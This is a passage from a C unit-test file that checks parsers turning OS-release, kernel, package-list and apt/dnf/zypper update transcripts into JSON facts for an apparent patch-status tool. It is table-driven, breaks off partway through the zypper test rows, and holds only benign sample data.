/*
 * Unit tests of the facts parsers (lib/facts*.c): every section parser on
 * small inline transcripts, well-formed and malformed, then the recorded
 * transcripts of real distributions in tests/data/transcripts/.
 *
 * Expectations are written as "path => json": a path into the facts' JSON
 * (docs/facts-json.md), such as "updates.list[0].security" or
 * "packages.list#" (an array's length) or "components.list{name=openssl}" (the
 * element whose name is openssl), and the value printed compactly.
 */
#include "helpers.h"

#include <cJSON.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "facts.h"
#include "gather.h"
#include "strbuf.h"
#include "util.h"

#define SR_UNUSED_ __attribute__((unused))
#define TN "tEsT0n0nce"
#define M "@@SRG " TN " "
#define HDR M "gather 1\n"
#define SEC(name, body) M "begin " name "\n" body M "end " name " 0\n"
#define SECS(name, status, body) M "begin " name "\n" body M "end " name " " #status "\n"
#define FILE_(path) M "file " path "\n"

/* Facts of HDR + body + done; NULL when the framing fails. */
static struct facts *facts_of_len(const char *body, size_t len)
{
	struct strbuf sb = STRBUF_INIT;
	struct gather g;
	struct facts *f = NULL;

	strbuf_addstr(&sb, HDR);
	strbuf_add(&sb, body, len);
	strbuf_addstr(&sb, M "done\n");
	gather_init(&g);
	if (gather_parse(&g, sb.buf, sb.len, TN, NULL) == 0)
		facts_from_gather(&g, &f);
	gather_release(&g);
	strbuf_release(&sb);
	return f;
}

static struct facts *facts_of(const char *body)
{
	return facts_of_len(body, strlen(body));
}

/* Facts of a whole transcript file; NULL when it cannot be read or framed. */
static SR_UNUSED_ struct facts *facts_of_file(const char *path, struct gather *g_out)
{
	char *buf = NULL;
	size_t len = 0;
	struct gather g;
	struct facts *f = NULL;

	if (read_file(path, GATHER_MAX_BYTES, &buf, &len) < 0)
		return NULL;
	gather_init(&g);
	if (gather_parse(&g, buf, len, NULL, NULL) == 0)
		facts_from_gather(&g, &f);
	if (g_out)
		*g_out = g;
	else
		gather_release(&g);
	free(buf);
	return f;
}

/* The node at path in j, or NULL; *count set for a trailing '#'. */
static const cJSON *jnode(const cJSON *j, const char *path, int *count)
{
	char *copy = xstrdup(path), *p = copy;
	*count = 0;
	while (j && *p) {
		size_t n = strcspn(p, ".[#{");
		if (n) {
			char save = p[n];
			p[n] = '\0';
			j = cJSON_GetObjectItemCaseSensitive(j, p);
			p[n] = save;
			p += n;
			continue;
		}
		if (*p == '.') {
			p++;
		} else if (*p == '[') {
			char *end;
			long idx = strtol(p + 1, &end, 10);
			j = cJSON_GetArrayItem(j, (int)idx);
			p = *end == ']' ? end + 1 : end;
		} else if (*p == '{') {
			/* {key=value}: the first element whose key is the string value */
			char *eq = strchr(p, '='), *close = eq ? strchr(eq, '}') : NULL;
			const cJSON *it, *found = NULL;
			if (!close) {
				j = NULL;
				break;
			}
			*eq = *close = '\0';
			cJSON_ArrayForEach(it, j) {
				const cJSON *k = cJSON_GetObjectItemCaseSensitive(it, p + 1);
				if (cJSON_IsString(k) && !strcmp(k->valuestring, eq + 1)) {
					found = it;
					break;
				}
			}
			j = found;
			p = close + 1;
		} else if (*p == '#') {
			*count = 1;
			p++;
		}
	}
	free(copy);
	return j;
}

/* The value at path printed compactly (owned); "<missing>" when there is none. */
static char *jget(const cJSON *root, const char *path)
{
	int count;
	const cJSON *j = jnode(root, path, &count);
	if (!j)
		return xstrdup("<missing>");
	if (count)
		return xasprintf("%d", cJSON_GetArraySize(j));
	char *t = cJSON_PrintUnformatted(j);
	char *r = xstrdup(t);
	cJSON_free(t);
	return r;
}

/* Check "path => json" expectations against facts; prints and returns failures. */
static int check_expect(const char *row, const struct facts *f, const char *const *expect)
{
	int bad = 0;
	char *text = facts_to_json(f);
	cJSON *root = cJSON_Parse(text);
	for (size_t i = 0; expect[i]; i++) {
		const char *sep = strstr(expect[i], " => ");
		if (!sep) {
			print_error("row '%s': bad expectation '%s'\n", row, expect[i]);
			bad++;
			continue;
		}
		char *path = xstrndup(expect[i], (size_t)(sep - expect[i]));
		char *got = jget(root, path);
		if (strcmp(got, sep + 4)) {
			print_error("row '%s': %s is %s, want %s\n", row, path, got, sep + 4);
			bad++;
		}
		free(path);
		free(got);
	}
	cJSON_Delete(root);
	free(text);
	return bad;
}


/* ---- table-driven parser tests on inline sections ---- */

struct row {
	const char *name;
	const char *body;
	const char *expect[40];
};

static void run_rows(const struct row *rows, size_t n)
{
	int bad = 0;
	for (size_t i = 0; i < n; i++) {
		struct facts *f = facts_of(rows[i].body);
		if (!f) {
			print_error("row '%s': the transcript does not frame\n", rows[i].name);
			bad++;
			continue;
		}
		bad += check_expect(rows[i].name, f, rows[i].expect);
		facts_free(f);
	}
	assert_int_equal(bad, 0);
}

#define DEBIAN12 "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\n" \
	"VERSION_ID=\"12\"\nVERSION=\"12 (bookworm)\"\nVERSION_CODENAME=bookworm\nID=debian\n"

static const struct row os_rows[] = {
	{ "debian 12", SEC("os-release", DEBIAN12),
	  { "os.id => \"debian\"", "os.family => \"debian\"", "os.version_id => \"12\"",
	    "os.codename => \"bookworm\"", "os.version => \"12 (bookworm)\"", "os.id_like => null",
	    "os.name => \"Debian GNU/Linux 12 (bookworm)\"", "os.src.section => \"os-release\"",
	    "os.src.status => 0", "os.src.complete => true", NULL } },
	{ "ubuntu", SEC("os-release", "NAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nID=ubuntu\nID_LIKE=debian\n"
				    "VERSION=\"22.04.3 LTS (Jammy Jellyfish)\"\nUBUNTU_CODENAME=jammy\n"),
	  { "os.id => \"ubuntu\"", "os.family => \"debian\"", "os.codename => \"jammy\"",
	    "os.name => \"Ubuntu\"", "os.id_like => \"debian\"", NULL } },
	{ "rocky", SEC("os-release", "ID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\nVERSION_ID=\"9.3\"\n"),
	  { "os.family => \"rhel\"", "os.version_id => \"9.3\"", "os.codename => null", NULL } },
	{ "alinux", SEC("os-release", "ID=\"alinux\"\nID_LIKE=\"rhel anolis\"\nVERSION_ID=\"3\"\n"),
	  { "os.family => \"rhel\"", "os.id => \"alinux\"", NULL } },
	{ "anolis", SEC("os-release", "ID=\"anolis\"\n"), { "os.family => \"rhel\"", NULL } },
	{ "amazon", SEC("os-release", "ID=\"amzn\"\nID_LIKE=\"centos rhel fedora\"\n"), { "os.family => \"rhel\"", NULL } },
	{ "oracle", SEC("os-release", "ID=\"ol\"\n"), { "os.family => \"rhel\"", NULL } },
	{ "fedora", SEC("os-release", "ID=fedora\n"), { "os.family => \"rhel\"", NULL } },
	{ "centos", SEC("os-release", "ID=\"centos\"\n"), { "os.family => \"rhel\"", NULL } },
	{ "almalinux", SEC("os-release", "ID=\"almalinux\"\n"), { "os.family => \"rhel\"", NULL } },
	{ "opensuse leap", SEC("os-release", "ID=\"opensuse-leap\"\nID_LIKE=\"suse opensuse\"\nVERSION_ID=\"15.5\"\n"),
	  { "os.family => \"suse\"", NULL } },
	{ "opensuse tumbleweed", SEC("os-release", "ID=\"opensuse-tumbleweed\"\n"), { "os.family => \"suse\"", NULL } },
	{ "sles", SEC("os-release", "ID=\"sles\"\n"), { "os.family => \"suse\"", NULL } },
	{ "sled", SEC("os-release", "ID=\"sled\"\n"), { "os.family => \"suse\"", NULL } },
	{ "raspbian", SEC("os-release", "ID=raspbian\nID_LIKE=debian\n"), { "os.family => \"debian\"", NULL } },
	{ "alpine", SEC("os-release", "ID=alpine\nVERSION_ID=3.19.1\n"),
	  { "os.family => \"alpine\"", "os.version_id => \"3.19.1\"", NULL } },
	{ "unknown id", SEC("os-release", "ID=arch\n"), { "os.family => \"unknown\"", NULL } },
	{ "id like decides", SEC("os-release", "ID=mint-ish\nID_LIKE=\"  foo   ubuntu debian\"\n"),
	  { "os.family => \"debian\"", NULL } },
	{ "id missing means linux", SEC("os-release", "NAME=Foo\n"),
	  { "os.id => \"linux\"", "os.family => \"unknown\"", "os.name => \"Foo\"", NULL } },
	{ "quotes, escapes, comments, crlf",
	  SEC("os-release", "# comment\r\n\r\nPRETTY_NAME=\"A \\\"q\\\" \\\\ b\"\r\nID='debian'\r\n  VERSION_ID = \"1\" \r\nBAD LINE\r\n"),
	  { "os.name => \"A \\\"q\\\" \\\\ b\"", "os.id => \"debian\"", "os.version_id => \"1\"", NULL } },
	{ "last assignment wins", SEC("os-release", "ID=a\nID=debian\n"), { "os.id => \"debian\"", NULL } },
	{ "empty value is unknown", SEC("os-release", "ID=debian\nVERSION_ID=\"\"\n"), { "os.version_id => null", NULL } },
	{ "debian 8 code name from VERSION", SEC("os-release", "ID=debian\nVERSION=\"8 (jessie)\"\nVERSION_ID=\"8\"\n"),
	  { "os.codename => \"jessie\"", NULL } },
	{ "centos 7 has no code name", SEC("os-release", "ID=\"centos\"\nVERSION=\"7 (Core)\"\n"),
	  { "os.codename => null", NULL } },
	{ "code name from lsb-release", SEC("os-release", "ID=ubuntu\n") SEC("lsb-release", "DISTRIB_CODENAME=focal\n"),
	  { "os.codename => \"focal\"", "os.src.section => \"os-release\"", NULL } },
	/* fallbacks */
	{ "os-release absent: redhat-release",
	  SECS("os-release", 1, "") SEC("redhat-release", "CentOS release 6.10 (Final)\n"),
	  { "os.id => \"centos\"", "os.family => \"rhel\"", "os.version_id => \"6.10\"",
	    "os.version => \"6.10 (Final)\"", "os.name => \"CentOS release 6.10 (Final)\"",
	    "os.src.section => \"redhat-release\"", NULL } },
	{ "system-release of amazon", SEC("redhat-release", "Amazon Linux AMI release 2018.03\n"),
	  { "os.id => \"amzn\"", "os.family => \"rhel\"", "os.version_id => \"2018.03\"", NULL } },
	{ "red hat", SEC("redhat-release", "Red Hat Enterprise Linux Server release 6.9 (Santiago)\n"),
	  { "os.id => \"rhel\"", "os.version_id => \"6.9\"", NULL } },
	{ "alibaba", SEC("redhat-release", "Alibaba Cloud Linux (Aliyun Linux) release 2.1903 LTS (Hunting Beagle)\n"),
	  { "os.id => \"alinux\"", "os.family => \"rhel\"", "os.version_id => \"2.1903\"", NULL } },
	{ "SuSE-release", SEC("suse-release", "SUSE Linux Enterprise Server 11 (x86_64)\nVERSION = 11\nPATCHLEVEL = 4\n"),
	  { "os.id => \"sles\"", "os.family => \"suse\"", "os.version_id => \"11.4\"", NULL } },
	{ "SuSE-release opensuse", SEC("suse-release", "openSUSE 13.1 (x86_64)\nVERSION = 13.1\nCODENAME = Bottle\n"),
	  { "os.id => \"opensuse\"", "os.family => \"suse\"", "os.version_id => \"13.1\"", "os.codename => \"Bottle\"", NULL } },
	{ "SuSE-release patch level 0", SEC("suse-release", "SUSE Linux Enterprise Server 12\nVERSION = 12\nPATCHLEVEL = 0\n"),
	  { "os.version_id => \"12\"", NULL } },
	{ "lsb-release before debian_version",
	  SEC("lsb-release", "DISTRIB_ID=Ubuntu\nDISTRIB_RELEASE=10.04\nDISTRIB_CODENAME=lucid\nDISTRIB_DESCRIPTION=\"Ubuntu 10.04.4 LTS\"\n")
	  SEC("debian-version", "squeeze/sid\n"),
	  { "os.id => \"ubuntu\"", "os.family => \"debian\"", "os.version_id => \"10.04\"", "os.codename => \"lucid\"",
	    "os.name => \"Ubuntu 10.04.4 LTS\"", "os.src.section => \"lsb-release\"", NULL } },
	{ "debian_version number", SEC("debian-version", "9.13\n"),
	  { "os.id => \"debian\"", "os.version_id => \"9\"", "os.version => \"9.13\"", "os.family => \"debian\"", NULL } },
	{ "debian_version code name", SEC("debian-version", "bookworm/sid\n"),
	  { "os.codename => \"bookworm\"", "os.version_id => null", NULL } },
	{ "alpine-release", SEC("alpine-release", "3.18.4\n"),
	  { "os.id => \"alpine\"", "os.version_id => \"3.18.4\"", "os.family => \"alpine\"", NULL } },
	{ "issue", SEC("issue", "\nDebian GNU/Linux 12 \\n \\l\n\n"),
	  { "os.id => \"debian\"", "os.version_id => \"12\"", "os.name => \"Debian GNU/Linux 12\"",
	    "os.src.section => \"issue\"", NULL } },
	{ "issue unknown", SEC("issue", "Welcome\n"), { "os.id => null", "os.family => \"unknown\"", NULL } },
	{ "nothing usable", SECS("os-release", 1, "") SEC("issue", "  \n\n"),
	  { "os.src => null", "os.family => null", "os.id => null", NULL } },
	{ "no sections at all", "", { "os.src => null", "uname.src => null", "meta.src => null", NULL } },
	/* uname, boot, meta */
	{ "uname", SEC("uname", "Linux\n6.1.0-18-amd64\nx86_64\n#1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01)\n"),
	  { "uname.sysname => \"Linux\"", "uname.release => \"6.1.0-18-amd64\"", "uname.machine => \"x86_64\"",
	    "uname.version => \"#1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01)\"", "uname.src.skipped => 0", NULL } },
	{ "uname short and long", SEC("uname", "Linux\n\n") SEC("boot", "boot_id=\nuptime=abc\nextra\n"),
	  { "uname.release => null", "uname.machine => null", "boot.boot_id => null", "boot.uptime => null",
	    "boot.src.skipped => 1", NULL } },
	{ "uname too many lines", SEC("uname", "a\nb\nc\nd\ne\n"), { "uname.src.skipped => 1", "uname.version => \"d\"", NULL } },
	{ "boot", SEC("boot", "boot_id=0f7a-11\nuptime=12345.67\n"),
	  { "boot.boot_id => \"0f7a-11\"", "boot.uptime => 12345", NULL } },
	{ "meta", SEC("meta", "time=1700000000\nuid=0\nuser=root\nshell=/bin/dash\nhostname=h\npath=/usr/bin:/bin\njunk\nnew=1\n"),
	  { "meta.time => 1700000000", "meta.uid => 0", "meta.user => \"root\"", "meta.shell => \"/bin/dash\"",
	    "meta.hostname => \"h\"", "meta.path => \"/usr/bin:/bin\"", "meta.src.skipped => 1", NULL } },
	{ "meta bad numbers", SEC("meta", "time=-5\nuid=99999999999999999999\nuser=\n"),
	  { "meta.time => null", "meta.uid => null", "meta.user => \"\"", NULL } },
	/* kernels */
	{ "kernels from /boot, rescue left out, newest first",
	  SEC("uname", "Linux\n6.1.0-17-amd64\nx86_64\n#1\n")
	  SEC("kernels", "/boot/vmlinuz-6.1.0-9-amd64\n/boot/vmlinuz-6.1.0-18-amd64\n/boot/vmlinuz-6.1.0-17-amd64\n"
			 "/boot/vmlinuz-0-rescue-abcdef\n/lib/modules/6.1.0-20-amd64\n/boot/vmlinuz-6.1.0-18-amd64\n"),
	  { "kernels.installed => [\"6.1.0-18-amd64\",\"6.1.0-17-amd64\",\"6.1.0-9-amd64\"]",
	    "kernels.newest => \"6.1.0-18-amd64\"", "reboot.kernel_pending => true", "reboot.required => true",
	    "reboot.src => null", NULL } },
	{ "other flavours do not count",
	  SEC("uname", "Linux\n6.1.0-18-amd64\nx86_64\n#1\n")
	  SEC("kernels", "/boot/vmlinuz-6.1.0-18-amd64\n/boot/vmlinuz-6.1.0-20-cloud-amd64\n")
	  SEC("reboot", "reboot_required_file=no\n"),
	  { "kernels.newest => \"6.1.0-18-amd64\"", "reboot.kernel_pending => false", "reboot.required => false", NULL } },
	{ "rhel kernels",
	  SEC("uname", "Linux\n5.14.0-362.8.1.el9_3.x86_64\nx86_64\n#1\n")
	  SEC("kernels", "/boot/vmlinuz-5.14.0-362.8.1.el9_3.x86_64\n/boot/vmlinuz-5.14.0-362.13.1.el9_3.x86_64\n"
			 "/boot/vmlinuz-5.14.0-70.13.1.el9_0.x86_64\n"),
	  { "kernels.newest => \"5.14.0-362.13.1.el9_3.x86_64\"", "reboot.kernel_pending => true", NULL } },
	{ "modules only when /boot has none (alpine)",
	  SEC("uname", "Linux\n6.6.14-0-virt\nx86_64\n#1\n")
	  SEC("kernels", "/boot/vmlinuz-virt\n/lib/modules/6.6.14-0-virt\n/lib/modules/6.6.16-0-virt\n"),
	  { "kernels.installed# => 2", "kernels.newest => \"6.6.16-0-virt\"", "reboot.kernel_pending => true", NULL } },
	{ "no kernels (container)", SEC("uname", "Linux\n6.1.0-18-amd64\nx86_64\n#1\n") SEC("kernels", "")
	  SEC("reboot", "reboot_required_file=no\n"),
	  { "kernels.installed => []", "kernels.newest => null", "reboot.kernel_pending => null",
	    "reboot.required => false", NULL } },
};

static void test_os(void **state)
{
	(void)state;
	run_rows(os_rows, ARRAY_SIZE(os_rows));
}

#define TOOLS_APT SEC("pkg-tools", "apt-get\t/usr/bin/apt-get\ndpkg\t/usr/bin/dpkg\nsystemctl\t/usr/bin/systemctl\n")
#define TOOLS_DNF SEC("pkg-tools", "dnf\t/usr/bin/dnf\nyum\t/usr/bin/yum\nrpm\t/usr/bin/rpm\n")
#define TOOLS_YUM SEC("pkg-tools", "yum\t/usr/bin/yum\nrpm\t/bin/rpm\n")
#define TOOLS_ZYP SEC("pkg-tools", "rpm\t/usr/bin/rpm\nzypper\t/usr/bin/zypper\ndnf\t/usr/bin/dnf\n")
#define TOOLS_APK SEC("pkg-tools", "apk\t/sbin/apk\n")

static const struct row pkg_rows[] = {
	{ "managers: apt", TOOLS_APT, { "packages.manager => \"apt\"", "tools.list# => 3",
					"tools.list[2] => {\"name\":\"systemctl\",\"path\":\"/usr/bin/systemctl\"}", NULL } },
	{ "managers: dnf before yum", TOOLS_DNF, { "packages.manager => \"dnf\"", NULL } },
	{ "managers: yum", TOOLS_YUM, { "packages.manager => \"yum\"", NULL } },
	{ "managers: zypper before dnf", TOOLS_ZYP, { "packages.manager => \"zypper\"", NULL } },
	{ "managers: apk", TOOLS_APK, { "packages.manager => \"apk\"", NULL } },
	{ "managers: dpkg without apt-get", SEC("pkg-tools", "dpkg\t/usr/bin/dpkg\n"), { "packages.manager => null", NULL } },
	{ "managers: none", SEC("pkg-tools", "garbage line\n"),
	  { "packages.manager => null", "tools.src.skipped => 1", "tools.list => []", NULL } },
	{ "dpkg packages",
	  TOOLS_APT SEC("packages", "openssl\t3.0.11-1~deb12u2\tamd64\tii \nold\t1.0\tamd64\trc \ngone\t1\tall\tun \n"
				    "libc6\t2.36-9+deb12u4\tamd64\tii \nlibc6\t2.36-9+deb12u4\ti386\tii \nhalf\t1\tall\tiU \n"
				    "broken line\n\tnoname\tx\tii \n"),
	  { "packages.list# => 4", "packages.list[0] => {\"name\":\"openssl\",\"version\":\"3.0.11-1~deb12u2\",\"arch\":\"amd64\",\"status\":\"ii\"}",
	    "packages.list[2].arch => \"i386\"", "packages.list[3].name => \"half\"", "packages.src.skipped => 2", NULL } },
	{ "rpm packages",
	  TOOLS_DNF SEC("packages", "openssl\t1:3.0.7-25.el9_3\tx86_64\tii\nbash\t0:5.1.8-6.el9_1\tx86_64\tii\n"
				    "old\t(none):1.0-1.el5\ti386\tii\ngpg-pubkey\t0:8483c65d-5ccc5b19\t(none)\tii\n"),
	  { "packages.list# => 3", "packages.list[0].version => \"1:3.0.7-25.el9_3\"",
	    "packages.list[1].version => \"5.1.8-6.el9_1\"", "packages.list[2].version => \"1.0-1.el5\"", NULL } },
	{ "apk packages",
	  TOOLS_APK SEC("packages", "musl-1.2.4_git20230717-r4\nalpine-baselayout-3.4.3-r2\nbusybox-1.36.1-r15\nnodash\na-b\n-1-r2\n"),
	  { "packages.list# => 3", "packages.list[0] => {\"name\":\"musl\",\"version\":\"1.2.4_git20230717-r4\",\"arch\":null,\"status\":null}",
	    "packages.list[1].name => \"alpine-baselayout\"", "packages.list[1].version => \"3.4.3-r2\"",
	    "packages.src.skipped => 3", NULL } },
	{ "packages not collected", TOOLS_APT,
	  { "packages.src => null", "packages.list => []", "components.src => null", "components.list => []", NULL } },
	{ "packages failed", TOOLS_APT SECS("packages", 127, ""),
	  { "packages.src.status => 127", "packages.list => []", "components.src.section => \"packages\"", NULL } },
	/* apt updates */
	{ "apt updates",
	  TOOLS_APT SEC("meta", "time=1700003600\n")
	  SEC("packages", "openssl\t3.0.11-1~deb12u2\tamd64\tii \nlibssl3\t3.0.11-1~deb12u2\tamd64\tii \nbash\t5.2.15-2+b2\tamd64\tii \n"
			  "linux-image-amd64\t6.1.76-1\tamd64\tii \nlinux-image-6.1.0-18-amd64\t6.1.76-1\tamd64\tii \n")
	  SEC("updates", "NOTE: This is only a simulation!\nReading package lists...\n"
			 "Inst openssl [3.0.11-1~deb12u2] (3.0.13-1~deb12u1 Debian-Security:12/stable-security [amd64])\n"
			 "Inst libssl3 [3.0.11-1~deb12u2] (3.0.13-1~deb12u1 Debian:12.5/stable, Debian-Security:12/stable-security [amd64]) []\n"
			 "Inst bash [5.2.15-2+b2] (5.2.15-2+b7 Debian:12.5/stable [amd64])\n"
			 "Inst linux-image-6.1.0-21-amd64 (6.1.90-1 Debian-Security:12/stable-security [amd64])\n"
			 "Inst linux-image-amd64 [6.1.76-1] (6.1.90-1 Debian-Security:12/stable-security [amd64])\n"
			 "Inst libfoo (1.0 Ubuntu:22.04/jammy-security [amd64])\n"
			 "Inst x\nInst \nConf openssl (3.0.13-1~deb12u1 Debian-Security:12/stable-security [amd64])\n"
			 "Remv foo [1]\n")
	  SEC("lists-age", "/var/lib/apt/lists/a_InRelease\t1700000000\n/var/lib/apt/lists/b_InRelease\t1700000600\nbad\n"),
	  { "updates.count => 7", "updates.security_count => 5",
	    "updates.list[0] => {\"name\":\"openssl\",\"version\":\"3.0.13-1~deb12u1\",\"current\":\"3.0.11-1~deb12u2\",\"arch\":\"amd64\",\"origin\":\"Debian-Security:12/stable-security\",\"security\":true}",
	    "updates.list[1].origin => \"Debian:12.5/stable, Debian-Security:12/stable-security\"",
	    "updates.list[1].security => true", "updates.list[2].security => false",
	    "updates.list[3].current => null", "updates.list[3].version => \"6.1.90-1\"", "updates.list[5].security => true",
	    "updates.list[6].name => \"x\"", "updates.list[6].version => null", "updates.src.skipped => 1",
	    "updates.security_src => null", "lists.newest => 1700000600", "lists.age => 3000", "lists.files# => 2",
	    "lists.src.skipped => 1",
	    "components.list{name=kernel}.name => \"kernel\"", "components.list{name=kernel}.security => true",
	    "components.list{name=kernel}.packages# => 3",
	    "components.list{name=kernel}.packages[2] => {\"name\":\"linux-image-6.1.0-21-amd64\",\"version\":null,\"update\":\"6.1.90-1\",\"security\":true}",
	    "components.list{name=openssl}.installed => true",
	    "components.list{name=openssl}.packages[0] => {\"name\":\"openssl\",\"version\":\"3.0.11-1~deb12u2\",\"update\":\"3.0.13-1~deb12u1\",\"security\":true}",
	    "components.list{name=openssl}.packages[1].name => \"libssl3\"",
	    "components.list{name=bash}.update => true", "components.list{name=bash}.security => false",
	     "components.list{name=zsh}.installed => false",
	    "components.list{name=zsh}.packages => []", NULL } },
	{ "apt-cache policy",
	  TOOLS_APT SEC("packages", "openssl\t3.0.11-1~deb12u2\tamd64\tii \nbash\t5.2.15-2+b2\tamd64\tii \n")
	  SEC("updates", "openssl:\n  Installed: 3.0.11-1~deb12u2\n  Candidate: 3.0.13-1~deb12u1\n  Version table:\n"
			 "     3.0.13-1~deb12u1 500\n        500 http://pkgs.example.org/debian-security bookworm-security/main amd64 Packages\n"
			 "        500 http://pkgs.example.org/debian bookworm-updates/main amd64 Packages\n"
			 " *** 3.0.11-1~deb12u2 500\n        500 http://pkgs.example.org/debian bookworm/main amd64 Packages\n"
			 "        100 /var/lib/dpkg/status\n"
			 "bash:\n  Installed: 5.2.15-2+b2\n  Candidate: 5.2.15-2+b7\n  Version table:\n"
			 "     5.2.15-2+b7 500\n        500 http://pkgs.example.org/debian bookworm-updates/main amd64 Packages\n"
			 "     5.2.15-2+b1 500\n        500 http://pkgs.example.org/debian-security bookworm-security/main amd64 Packages\n"
			 " *** 5.2.15-2+b2 100\n        100 /var/lib/dpkg/status\n"
			 "same:\n  Installed: 1.0\n  Candidate: 1.0\n  Version table:\n *** 1.0 500\n        500 http://x/ y/main amd64 Packages\n"
			 "pinned-down:\n  Installed: 2.0\n  Candidate: 1.0\n  Version table:\n"
			 "gone:\n  Installed: (none)\n  Candidate: 1.0\n"
			 "orphan:\n  Installed: 1.0\n  Candidate: (none)\n"
			 "libc6:i386:\n  Installed: 2.36-9+deb12u3\n  Candidate: 2.36-9+deb12u4\n  Version table:\n"
			 "     2.36-9+deb12u4 500\n        500 http://security.debian.org/debian-security buster/updates/main i386 Packages\n"
			 "old:\n  Installed: 1\n  Candidate: 2\n  Version table:\n     2 500\n        500 http://deb.example/debian buster/updates/main amd64 Packages\n"
			 "N: Unable to locate package nothing\n"
			 "nocand:\n  Installed: 1\n  Candidate: 2\n"),
	  { "updates.count => 5", "updates.security_count => 2", "updates.src.skipped => 1",
	    "updates.list[0] => {\"name\":\"openssl\",\"version\":\"3.0.13-1~deb12u1\",\"current\":\"3.0.11-1~deb12u2\",\"arch\":\"amd64\",\"origin\":\"bookworm-security/main, bookworm-updates/main\",\"security\":true}",
	    "updates.list[1] => {\"name\":\"bash\",\"version\":\"5.2.15-2+b7\",\"current\":\"5.2.15-2+b2\",\"arch\":\"amd64\",\"origin\":\"bookworm-updates/main\",\"security\":false}",
	    "updates.list[2] => {\"name\":\"libc6\",\"version\":\"2.36-9+deb12u4\",\"current\":\"2.36-9+deb12u3\",\"arch\":\"i386\",\"origin\":\"buster/updates/main\",\"security\":true}",
	    "updates.list[3].name => \"old\"", "updates.list[3].security => false",
	    "updates.list[4] => {\"name\":\"nocand\",\"version\":\"2\",\"current\":\"1\",\"arch\":null,\"origin\":null,\"security\":false}",
	    "components.list{name=openssl}.security => true", "components.list{name=bash}.update => true",
	    "components.list{name=bash}.security => false", NULL } },
	{ "apt updates none", TOOLS_APT SEC("updates", "Reading package lists...\n0 upgraded, 0 newly installed\n"),
	  { "updates.count => 0", "updates.security_count => 0", NULL } },
	{ "updates not collected", TOOLS_APT,
	  { "updates.count => null", "updates.security_count => null", "updates.src => null", NULL } },
	{ "lists age without time", SEC("lists-age", "/x\t100\n"), { "lists.newest => 100", "lists.age => null", NULL } },
	{ "lists in the future", SEC("meta", "time=50\n") SEC("lists-age", "/x\t100\n"), { "lists.age => 0", NULL } },
	{ "refresh", SECS("refresh", 100, "Err:1 http://x\n"), { "refresh.src.status => 100", NULL } },
	/* dnf */
	{ "dnf updates and updateinfo",
	  TOOLS_DNF SEC("packages", "openssl-libs\t1:3.0.7-24.el9\tx86_64\tii\nkernel\t0:5.14.0-362.8.1.el9_3\tx86_64\tii\n")
	  SECS("updates", 100, "\nopenssl-libs.x86_64          1:3.0.7-25.el9_3     baseos\n"
			       "a-very-long-package-name-that-wraps.noarch\n                 2.0-1.el9   appstream\n"
			       "kernel.x86_64   5.14.0-362.13.1.el9_3   baseos\n"
			       "python3.11.x86_64  3.11.5-1.el9  appstream\n"
			       "Security: kernel-5.14.0-362.13.1.el9_3.x86_64 is an installed security update\n"
			       "Obsoleting Packages\ngrub2-tools.x86_64  1:2.06-70.el9  baseos\n    grub2-tools.x86_64 1:2.06-69.el9 @baseos\n")
	  SEC("security-updates", "RLSA-2024:0253 Important/Sec.  openssl-libs-1:3.0.7-25.el9_3.x86_64\n"
				  "RLSA-2024:0310 Moderate/Sec.   kernel-5.14.0-362.13.1.el9_3.x86_64\n"
				  "RLSA-2024:0311 Moderate/Sec.   kernel-core-5.14.0-362.13.1.el9_3.x86_64\n"
				  "RLSA-2024:9 Low/Sec. bad\n"),
	  { "updates.count => 4", "updates.security_count => 2",
	    "updates.list[0] => {\"name\":\"openssl-libs\",\"version\":\"1:3.0.7-25.el9_3\",\"current\":\"1:3.0.7-24.el9\",\"arch\":\"x86_64\",\"origin\":\"baseos\",\"security\":true}",
	    "updates.list[1].name => \"a-very-long-package-name-that-wraps\"", "updates.list[1].origin => \"appstream\"",
	    "updates.list[2].security => true", "updates.list[2].current => \"5.14.0-362.8.1.el9_3\"",
	    "updates.list[3].name => \"python3.11\"", "updates.list[3].security => false",
	    "updates.advisories# => 3",
	    "updates.advisories[0] => {\"id\":\"RLSA-2024:0253\",\"severity\":\"Important\",\"package\":\"openssl-libs\",\"summary\":null}",
	    "updates.advisories[2].package => \"kernel-core\"", "updates.security_src.skipped => 1",
	    "updates.src.status => 100", NULL } },
	{ "yum security without the plugin",
	  TOOLS_YUM SECS("updates", 100, "bash.x86_64  4.2.46-35.el7_9  updates\nsudo.x86_64  1.8.23-10.el7_9.3  updates\n")
	  SECS("security-updates", 100, "sudo.x86_64  1.8.23-10.el7_9.3  updates\n"),
	  { "updates.count => 2", "updates.security_count => 1", "updates.list[1].security => true",
	    "updates.list[0].security => false", "updates.advisories => []", NULL } },
	{ "dnf security list not collected",
	  TOOLS_DNF SECS("updates", 100, "bash.x86_64  5.1.8-9.el9  baseos\n"),
	  { "updates.count => 1", "updates.security_count => null", NULL } },
	{ "dnf garbage", TOOLS_DNF SECS("updates", 1, "Error: Cache-only enabled but no cache for 'baseos'\n"),
	  { "updates.count => 0", "updates.src.status => 1", NULL } },
	/* zypper */
	{ "zypper updates and patches",
	  TOOLS_ZYP SEC("packages", "libopenssl1_1\t0:1.1.1l-150400.7.28.1\tx86_64\tii\n")
	  SECS("updates", 100, "S | Repository        | Name          | Current Version       | Available Version     | Arch\n"
			       "--+-------------------+---------------+-----------------------+-----------------------+-------\n"
			       "v | repo-sle-update   | libopenssl1_1 | 1.1.1l-150400.7.28.1  | 1.1.1l-150400.7.60.2  | x86_64\n"
			       "v | repo-sle-update   | curl          | 8.0.1-150400.5.23.1   | 8.0.1-150400.5.41.1   | x86_64\n"
			       "v | repo-oss          | vim           | 9.0.1894-1            | 9.0.2103-1            | x86_64\n"
			       "garbage | without | header\n")
	  SECS("security-updates", 100,
	       "Repository      | Name                        | Category | Severity  | Interactive | Status | Summary\n"
	       "----------------+-----------------------------+----------+-----------+-------------+--------+--------\n"
	       "repo-sle-update | openSUSE-SLE-15.5-2024-1234 | security | important | ---         | needed | Security update for openssl-1_1\n"
	       "repo-sle-update | openSUSE-SLE-15.5-2024-1300 | security | moderate  | ---         | needed | Security update for curl\n"
	       "repo-sle-update | openSUSE-SLE-15.5-2024-1000 | security | low       | ---         | applied | Security update for vim\n"),
